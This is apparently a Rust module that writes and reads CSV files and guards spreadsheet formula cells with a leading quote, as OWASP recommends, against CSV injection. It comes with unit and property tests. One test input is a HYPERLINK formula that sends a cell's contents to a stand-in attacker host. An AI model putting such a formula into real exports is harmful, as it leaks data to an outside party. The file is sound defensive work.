//! CSV as every writer of ours writes it (exports, selection exports, the report, import
//! reports), and the reading side's inverse.
//!
//! A cell a spreadsheet would run as a formula (one starting with `=`, `+`, `-`, `@`, a
//! tab or a carriage return) goes out with a `'` in front, as OWASP recommends, so a
//! `=HYPERLINK(…)` title is shown, never run. Our own import takes that `'` off again, so an
//! exported file imports back to the very same values. A cell that the text rules would
//! refuse (an older record's) loses its control and bidirectional formatting characters;
//! every other cell is written as it is.

use std::borrow::Cow;
use std::io::Write;

use crate::model::text::{cleaned, Lines};

/// Whether a spreadsheet would take a cell for a formula, or the cell needs a guard so
/// that its own leading `'`s survive the round trip.
fn needs_guard(cell: &str) -> bool {
    matches!(
        cell.trim_start_matches('\'').chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// A cell as we write it: guarded with a leading `'` when a spreadsheet would run it.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    let cell = cleaned(cell, Lines::Many);
    if needs_guard(&cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        cell
    }
}

/// A cell as we read it: the guard [`neutralize`] added is taken off (a `'` that guards
/// nothing stays).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// A CSV writer whose every cell goes through [`neutralize`].
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    /// A writer into `out`.
    pub fn new(out: W) -> Writer<W> {
        Writer {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes one row.
    ///
    /// # Errors
    /// When writing to the underlying writer fails.
    pub fn row<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            cells
                .into_iter()
                .map(|c| neutralize(c.as_ref()).into_owned()),
        )
    }

    /// Flushes what is buffered.
    ///
    /// # Errors
    /// When writing fails.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer, flushed.
    ///
    /// # Errors
    /// When the final flush fails.
    pub fn into_inner(self) -> Result<W, std::io::Error> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formula_cells_are_guarded_and_others_left_alone() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&C2,\"x\")",
            "+1",
            "-5 degrees",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralize(cell), format!("'{cell}"));
        }
        for cell in [
            "Plain title",
            "'Smart' villages",
            "",
            "a=b",
            "C7.e-health;C2",
        ] {
            assert_eq!(neutralize(cell), cell);
        }
        assert_eq!(neutralize("'=x"), "''=x");
        assert_eq!(neutralize("a\u{1b}[2Jb"), "a[2Jb");
        // Balanced direction controls are text, kept; a long run of quotes is no problem.
        assert_eq!(neutralize("\u{2067}שלום\u{2069}"), "\u{2067}שלום\u{2069}");
        let quotes = format!("{}=x", "'".repeat(100_000));
        assert_eq!(restore(&neutralize(&quotes)), quotes);
    }

    proptest! {
        #[test]
        fn every_cell_reads_back_as_it_was_written(cell in "['=+@\\-\\t\\r]{0,3}\\PC{0,12}(\u{2067}[a-zא-ת ]{0,5}\u{2069})?\\PC{0,4}") {
            let written = neutralize(&cell);
            prop_assert!(!matches!(written.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r')));
            prop_assert_eq!(restore(&written), cell.as_str());
        }
    }
}
